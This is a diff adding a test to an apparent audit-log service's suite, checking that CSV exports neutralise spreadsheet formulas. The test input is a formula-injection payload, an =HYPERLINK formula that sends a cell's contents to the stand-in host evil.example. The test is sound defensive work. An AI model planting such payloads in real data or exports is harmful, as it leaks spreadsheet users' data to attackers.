@@ -162,3 +162,16 @@ describe('audit order', () => {
     expect(p2.json.items.map((e: { seq: number }) => e.seq)).toEqual(all.slice(-6, -3).reverse());
   });
 });
+
+describe('CSV export and spreadsheets', () => {
+  it('defuses cells a spreadsheet would run as formulas, and the export still verifies', async () => {
+    const r = await t.request('POST', '/v1/groups', { body: { name: 'formula-probe' }, headers: { 'toolgate-reason': '=HYPERLINK("https://evil.example/?"&B2,"details")' } });
+    expect(r.status).toBe(201);
+    const csv = (await t.request('GET', '/v1/audit/export?format=csv')).text;
+    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?""&B2,""details"")"`);
+    expect(csv).not.toMatch(/,"=HYPERLINK/);
+    const file = join(t.dir, 'formula.csv');
+    writeFileSync(file, csv);
+    expect(cli(['audit', 'verify', file]).status).toBe(0);
+  });
+});
